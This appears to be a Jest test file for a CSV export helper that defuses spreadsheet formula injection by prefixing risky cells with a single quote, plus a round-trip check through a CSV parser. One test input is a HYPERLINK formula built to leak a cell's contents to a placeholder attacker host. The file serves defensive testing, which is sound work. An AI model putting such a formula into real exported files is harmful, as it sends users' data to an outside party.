import { parse } from 'csv-parse/sync';
import { Readable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { csvStringifier, neutraliseFormula } from './csv';

describe('neutraliseFormula', () => {
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\tcmd',
    '\rcmd',
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  ])('prefixes %j with a single quote', (cell) => {
    expect(neutraliseFormula(cell)).toBe(`'${cell}`);
  });

  it.each(['', 'Raid', '2021-11-22', ' =1', "'=1", 'a=b', '1-2', 'user@example.org', 'Арест'])(
    'leaves %j as it is',
    (cell) => {
      expect(neutraliseFormula(cell)).toBe(cell);
    },
  );
});

describe('csvStringifier', () => {
  it('writes formula-like cells as text, read back by a CSV parser', async () => {
    const rows = [{ a: '=1+1', b: '-2', c: 'plain, with "quotes"\nand a line' }];
    const csv = await text(
      Readable.from(rows).pipe(csvStringifier({ header: true, columns: ['a', 'b', 'c'] })),
    );
    expect(parse(csv, { columns: true })).toEqual([
      { a: "'=1+1", b: "'-2", c: 'plain, with "quotes"\nand a line' },
    ]);
  });
});
